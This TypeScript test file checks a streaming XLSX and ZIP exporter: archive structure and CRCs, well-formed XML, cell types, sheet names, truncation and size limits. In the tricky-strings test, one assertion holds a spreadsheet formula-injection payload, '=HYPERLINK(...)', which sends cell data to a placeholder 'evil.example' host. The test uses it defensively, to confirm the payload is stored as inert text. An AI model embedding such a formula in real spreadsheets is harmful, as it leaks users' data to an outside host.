import { test } from 'node:test';
import assert from 'node:assert/strict';
import zlib from 'node:zlib';
import readXlsxFile from 'read-excel-file/node';
import { SaxesParser } from 'saxes';
import { XLSX_MAX_CELL_CHARS, columnName, sanitizeSheetName, xlsxChunks, xlsxReadable } from './xlsx.ts';
import type { XlsxOptions, XlsxStats } from './xlsx.ts';
import { ZipLimitError, zipChunks } from './zip.ts';
import { TEST_COLUMNS, TRICKY_STRINGS, collect, columnKind, seededRows, seededRowsAsync } from '../../../test/support/export/rows.ts';

const FIXED_TIME = new Date(2024, 0, 2, 3, 4, 6);

/**
 * A deliberately small, strict ZIP reader: walks the central directory, checks each local header, the data
 * descriptor and the layout (entries back to back, directory right after), inflates and verifies CRC-32.
 */
function unzip(zip: Buffer): Map<string, Buffer> {
  const end = zip.length - 22;
  assert.equal(zip.readUInt32LE(end), 0x06054b50, 'end of central directory record at the very end');
  const count = zip.readUInt16LE(end + 10);
  const directorySize = zip.readUInt32LE(end + 12);
  const directoryOffset = zip.readUInt32LE(end + 16);
  assert.equal(directoryOffset + directorySize, end, 'central directory ends where the end record starts');

  const files = new Map<string, Buffer>();
  let p = directoryOffset;
  let expectedLocal = 0;
  for (let i = 0; i < count; i++) {
    assert.equal(zip.readUInt32LE(p), 0x02014b50, 'central directory header');
    const flags = zip.readUInt16LE(p + 8);
    const method = zip.readUInt16LE(p + 10);
    const crc = zip.readUInt32LE(p + 16);
    const compressedSize = zip.readUInt32LE(p + 20);
    const size = zip.readUInt32LE(p + 24);
    const nameLength = zip.readUInt16LE(p + 28);
    const extraLength = zip.readUInt16LE(p + 30);
    const commentLength = zip.readUInt16LE(p + 32);
    const localOffset = zip.readUInt32LE(p + 42);
    const name = zip.toString('utf8', p + 46, p + 46 + nameLength);
    p += 46 + nameLength + extraLength + commentLength;

    assert.equal(flags & 0x0008, 0x0008, `${name}: data-descriptor flag`);
    assert.equal(method, 8, `${name}: deflate`);
    assert.equal(localOffset, expectedLocal, `${name}: entries are back to back`);
    assert.equal(zip.readUInt32LE(localOffset), 0x04034b50, `${name}: local file header`);
    assert.equal(zip.readUInt16LE(localOffset + 6), flags, `${name}: same flags in local header`);
    const localName = zip.readUInt16LE(localOffset + 26);
    const localExtra = zip.readUInt16LE(localOffset + 28);
    assert.equal(zip.toString('utf8', localOffset + 30, localOffset + 30 + localName), name);
    const dataStart = localOffset + 30 + localName + localExtra;
    const descriptor = dataStart + compressedSize;
    assert.equal(zip.readUInt32LE(descriptor), 0x08074b50, `${name}: data descriptor signature`);
    assert.equal(zip.readUInt32LE(descriptor + 4), crc, `${name}: descriptor CRC`);
    assert.equal(zip.readUInt32LE(descriptor + 8), compressedSize, `${name}: descriptor compressed size`);
    assert.equal(zip.readUInt32LE(descriptor + 12), size, `${name}: descriptor size`);
    expectedLocal = descriptor + 16;

    const content = zlib.inflateRawSync(zip.subarray(dataStart, descriptor));
    assert.equal(content.length, size, `${name}: inflated size`);
    assert.equal(zlib.crc32(content), crc, `${name}: CRC-32 of the content`);
    files.set(name, content);
  }
  assert.equal(expectedLocal, directoryOffset, 'central directory follows the last entry');
  return files;
}

/** Fails on any XML well-formedness error, including characters XML 1.0 forbids. */
function assertWellFormedXml(name: string, xml: string): void {
  const parser = new SaxesParser({ xmlns: true });
  let error: Error | undefined;
  parser.on('error', (e) => {
    error ??= e;
  });
  parser.write(xml).close();
  assert.equal(error, undefined, `${name} is well-formed XML: ${error?.message}`);
}

async function xlsxBuffer<Row>(rows: Iterable<Row> | AsyncIterable<Row>, options: XlsxOptions<Row>): Promise<Buffer> {
  return collect(xlsxChunks(rows, { modifiedAt: FIXED_TIME, ...options }));
}

const PARTS = [
  '[Content_Types].xml',
  '_rels/.rels',
  'xl/workbook.xml',
  'xl/_rels/workbook.xml.rels',
  'xl/styles.xml',
  'xl/worksheets/sheet1.xml',
];

/** What a text cell reads back as: XML-illegal characters removed; empty text is an empty cell. */
function expectedXlsxText(text: string): string | null {
  const s = text.replace(/[^\t\n\r\x20-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, '');
  return s === '' ? null : s;
}

test('package: six parts, valid ZIP with data descriptors and correct CRCs, well-formed XML', async () => {
  const zip = await xlsxBuffer([{ a: 'x' }], { columns: ['a'] });
  const files = unzip(zip);
  assert.deepEqual([...files.keys()], PARTS);
  for (const [name, content] of files) assertWellFormedXml(name, content.toString('utf8'));
  // Deterministic for a fixed timestamp.
  assert.deepEqual(await xlsxBuffer([{ a: 'x' }], { columns: ['a'] }), zip);
});

test('tricky strings read back with read-excel-file: exact text, no formula escaping, XML-illegal removed', async () => {
  const rows = TRICKY_STRINGS.map((s, i) => ({ id: i, text: s }));
  const zip = await xlsxBuffer(rows, { columns: ['id', 'text'] });
  const sheetXml = unzip(zip).get('xl/worksheets/sheet1.xml')!.toString('utf8');
  assertWellFormedXml('sheet1.xml', sheetXml);
  assert.ok(sheetXml.includes('_x005F_x0041_ looks'), 'literal _xHHHH_ is escaped for Excel');
  assert.ok(!sheetXml.includes('<f>'), 'no formula cells');

  const [sheet] = await readXlsxFile(zip, { trim: false });
  assert.equal(sheet.data.length, rows.length + 1);
  assert.deepEqual(sheet.data[0], ['id', 'text']);
  for (const [i, s] of TRICKY_STRINGS.entries()) {
    assert.deepEqual(sheet.data[i + 1], [i, expectedXlsxText(s)], `row for ${JSON.stringify(s)}`);
  }
  assert.equal(sheet.data.find((r) => String(r[1]).includes('HYPERLINK'))?.[1], '=HYPERLINK("http://evil.example/?x="&A1,"click")');
});

test('cell types: numbers, booleans, dates as date cells, empty values, bigints, lists', async () => {
  const rows = [
    {
      n: -12.5,
      big: 9007199254740993n,
      small: -42n,
      yes: true,
      no: false,
      day: new Date('2024-02-29T00:00:00Z'),
      moment: new Date('2024-02-29T13:14:15Z'),
      old: new Date('1900-01-15T00:00:00Z'),
      nul: null,
      nan: Number.NaN,
      inf: Number.POSITIVE_INFINITY,
      badDate: new Date(Number.NaN),
      list: ['Ann', 'Bo'],
      obj: { k: 1 },
    },
  ];
  const columns = Object.keys(rows[0]);
  const zip = await xlsxBuffer(rows, { columns });
  const [sheet] = await readXlsxFile(zip, { trim: false });
  const byKey = Object.fromEntries(columns.map((k, i) => [k, sheet.data[1][i]]));
  assert.equal(byKey.n, -12.5);
  assert.equal(byKey.big, '9007199254740993', 'beyond 2^53 kept as text, every digit');
  assert.equal(byKey.small, -42);
  assert.equal(byKey.yes, true);
  assert.equal(byKey.no, false);
  assert.ok(byKey.day instanceof Date);
  assert.equal((byKey.day as unknown as Date).toISOString(), '2024-02-29T00:00:00.000Z');
  assert.equal((byKey.moment as unknown as Date).toISOString(), '2024-02-29T13:14:15.000Z');
  assert.equal(byKey.old, '1900-01-15T00:00:00.000Z', 'before 1900-03-01: ISO text');
  for (const k of ['nul', 'nan', 'inf', 'badDate']) assert.equal(byKey[k], null, k);
  assert.equal(byKey.list, 'Ann; Bo');
  assert.equal(byKey.obj, '{"k":1}');

  const sheetXml = unzip(zip).get('xl/worksheets/sheet1.xml')!.toString('utf8');
  assert.ok(sheetXml.includes('<c r="F2" s="2"><v>45351</v></c>'), 'midnight date: serial 45351 with the yyyy-mm-dd style');
  assert.match(sheetXml, /<c r="G2" s="3"><v>45351\.55156/, 'date-time: fractional serial with the date-time style');
});

test('title rows, bold header, frozen panes, column widths and sheet name', async () => {
  const rows = [{ type: 'Antibody', name: 'anti-GFP', id: 'RRID:AB_1' }];
  const zip = await xlsxBuffer(rows, {
    columns: [
      { key: 'type', header: 'RESOURCE TYPE', width: 25 },
      { key: 'name', header: 'RESOURCE NAME' },
      { key: 'id', header: 'IDENTIFIER' },
    ],
    titleRows: [['Key Resources Table'], ['DOI', '10.1101/2024.01.01.000001'], []],
    sheetName: 'KRT: 10.1101/x?',
  });
  const [sheet] = await readXlsxFile(zip, { trim: false });
  assert.equal(sheet.sheet, 'KRT_ 10.1101_x_');
  assert.deepEqual(sheet.data, [
    ['Key Resources Table', null, null],
    ['DOI', '10.1101/2024.01.01.000001', null],
    [null, null, null],
    ['RESOURCE TYPE', 'RESOURCE NAME', 'IDENTIFIER'],
    ['Antibody', 'anti-GFP', 'RRID:AB_1'],
  ]);
  const files = unzip(zip);
  const sheetXml = files.get('xl/worksheets/sheet1.xml')!.toString('utf8');
  assert.ok(sheetXml.includes('<c r="A1" s="4" t="inlineStr">'), 'first title row in the title style');
  assert.ok(sheetXml.includes('<c r="A2" t="inlineStr">'), 'further title rows plain');
  for (const col of ['A', 'B', 'C']) assert.ok(sheetXml.includes(`<c r="${col}4" s="1" t="inlineStr">`), `header ${col}4 bold`);
  assert.ok(sheetXml.includes('<pane ySplit="4" topLeftCell="A5" activePane="bottomLeft" state="frozen"/>'));
  assert.ok(sheetXml.includes('<col min="1" max="1" width="25" customWidth="1"/>'));
  assert.ok(sheetXml.includes('<col min="2" max="2" width="15" customWidth="1"/>'), 'default width from the header length');
  const styles = files.get('xl/styles.xml')!.toString('utf8');
  assert.match(styles, /<cellXfs count="5"><xf [^>]*\/><xf numFmtId="0" fontId="1"/);
  assert.match(styles, /<fonts count="3"><font>[^]*?<\/font><font><b\/>/);
});

test('sheet names are made valid for Excel', () => {
  assert.equal(sanitizeSheetName(undefined), 'Sheet1');
  assert.equal(sanitizeSheetName('  '), 'Sheet1');
  assert.equal(sanitizeSheetName("'quoted'"), 'quoted');
  assert.equal(sanitizeSheetName('history'), 'History_');
  assert.equal(sanitizeSheetName('a'.repeat(40)).length, 31);
  assert.equal(sanitizeSheetName('x[1]*?:/\\'), 'x_1______');
  assert.deepEqual([0, 25, 26, 701, 702, 16383].map(columnName), ['A', 'Z', 'AA', 'ZZ', 'AAA', 'XFD']);
});

test("text is cut at Excel's 32,767-character limit, counted, never splitting a surrogate pair", async () => {
  const exact = 'e'.repeat(XLSX_MAX_CELL_CHARS);
  const long = 'l'.repeat(40_000);
  const pairAtCut = 'p'.repeat(XLSX_MAX_CELL_CHARS - 2) + '😀' + 'tail';
  let stats: XlsxStats | undefined;
  const zip = await xlsxBuffer([{ a: exact }, { a: long }, { a: pairAtCut }], { columns: ['a'], onFinish: (s) => (stats = s) });
  assert.deepEqual(stats, { rows: 3, truncatedCells: 2 });
  const [sheet] = await readXlsxFile(zip, { trim: false });
  assert.equal(sheet.data[1][0], exact);
  assert.equal(sheet.data[2][0], 'l'.repeat(XLSX_MAX_CELL_CHARS - 1) + '…');
  const cut = sheet.data[3][0] as string;
  assert.equal(cut, 'p'.repeat(XLSX_MAX_CELL_CHARS - 2) + '…');
  assert.ok(cut.isWellFormed());
});

test('10,000 rows x 16 columns from an async source: counted and equal cell by cell', async () => {
  let stats: XlsxStats | undefined;
  const chunks: Buffer[] = [];
  for await (const chunk of xlsxReadable(seededRowsAsync(10_000, 'xlsx-10k'), {
    columns: TEST_COLUMNS,
    titleRows: [['Export'], []],
    onFinish: (s) => (stats = s),
  })) {
    chunks.push(chunk as Buffer);
  }
  assert.deepEqual(stats, { rows: 10_000, truncatedCells: 0 });
  assert.ok(chunks.length > 10, `output arrives in many chunks (${chunks.length})`);
  const zip = Buffer.concat(chunks);
  const files = unzip(zip);
  assertWellFormedXml('sheet1.xml', files.get('xl/worksheets/sheet1.xml')!.toString('utf8'));

  const [sheet] = await readXlsxFile(zip, { trim: false });
  assert.equal(sheet.data.length, 2 + 1 + 10_000, 'two title rows, the header, 10,000 rows');
  assert.deepEqual(sheet.data[2], TEST_COLUMNS);
  let r = 2;
  for (const row of seededRows(10_000, 'xlsx-10k')) {
    const got = sheet.data[++r];
    TEST_COLUMNS.forEach((key, c) => {
      const value = row[key];
      const cell = got[c];
      switch (columnKind(c)) {
        case 'date':
          assert.ok(cell instanceof Date, `row ${r} ${key} is a date`);
          assert.equal((cell as unknown as Date).getTime(), (value as Date).getTime(), `row ${r} ${key}`);
          break;
        case 'list': {
          const list = value as string[];
          assert.equal(cell, list.length === 0 ? null : list.join('; '), `row ${r} ${key}`);
          break;
        }
        case 'number':
        case 'boolean':
          assert.equal(cell, value, `row ${r} ${key}`);
          break;
        default:
          assert.equal(cell, value === null ? null : expectedXlsxText(value as string), `row ${r} ${key}`);
      }
    });
  }
});

test('limits: ZIP64-sized output and too many columns are refused', async () => {
  const big = async function* (): AsyncGenerator<Buffer> {
    for (let i = 0; i < 64; i++) yield Buffer.alloc(1024, i);
  };
  await assert.rejects(collect(zipChunks([{ name: 'big.bin', data: big() }], { maxBytes: 32 * 1024 })), ZipLimitError);
  // Within the limit the same entry is fine.
  const ok = unzip(await collect(zipChunks([{ name: 'big.bin', data: big() }], { maxBytes: 1024 * 1024 })));
  assert.equal(ok.get('big.bin')!.length, 64 * 1024);

  const columns = Array.from({ length: 16_385 }, (_, i) => `c${i}`);
  await assert.rejects(xlsxBuffer([], { columns }), RangeError);
});

test('an error in the row source fails the stream', async () => {
  async function* failing(): AsyncGenerator<{ a: number }> {
    for (let i = 0; i < 5000; i++) yield { a: i };
    throw new Error('cursor lost');
  }
  await assert.rejects(xlsxBuffer(failing(), { columns: ['a'] }), /cursor lost/);
});
